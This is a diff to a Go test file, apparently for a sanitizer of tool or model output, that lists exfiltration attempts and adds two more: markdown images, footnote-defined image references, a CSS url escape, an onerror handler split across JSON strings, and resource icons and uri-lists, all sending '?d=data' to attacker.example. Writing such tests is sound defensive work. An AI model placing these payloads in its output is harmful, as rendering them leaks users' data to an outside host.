@@ -61,6 +61,7 @@ var attempts = []attempt{
 	}},
 	{name: "label", title: "an image behind a label that parsers read differently", text: fixed(`![a\]b](https://attacker.example/p.png?d=data)`), through: holds("](https://attacker")},
 	{name: "fence", title: "an image behind what looks like a fence, and is none", text: fixed("- a\n  ```\n![x](https://attacker.example/p.png?d=data)"), through: holds("](https://attacker")},
+	{name: "footnote", title: "an image whose target a footnote defines", text: fixed("![status][r] and[^1]\n\n[^1]: [r]: https://attacker.example/p.png"), through: holds("![status][r]")},
 	{name: "style", title: "a style that fetches, by an escape of CSS", text: fixed(`<p style="background:u\72l(https://attacker.example/p?d=data)">x</p>`), through: holds("<p style")},
 	{name: "leaves", title: "markup split over the texts of a JSON document", text: fixed(`["<img src=x title='", "' onerror=steal() x=''>"]`), through: holds("<img src=x")},
 	{
@@ -75,6 +76,11 @@ var attempts = []attempt{
 	{
 		name: "icon", title: "an icon that fetches", members: true,
 		text:    fixed(`"content":[{"type":"resource_link","uri":"file:///a.txt","name":"a","icons":[{"src":"https://attacker.example/p.png?d=data"}]}]`),
+		through: holds("https://attacker"),
+	},
+	{
+		name: "frame", title: "a list of pages that hosts show", members: true,
+		text:    fixed(`"content":[{"type":"resource","resource":{"uri":"ui://a","mimeType":"text/uri-list","text":"https://attacker.example/?d=data"}}]`),
 		through: holds("https://attacker"),
 	},
 	{
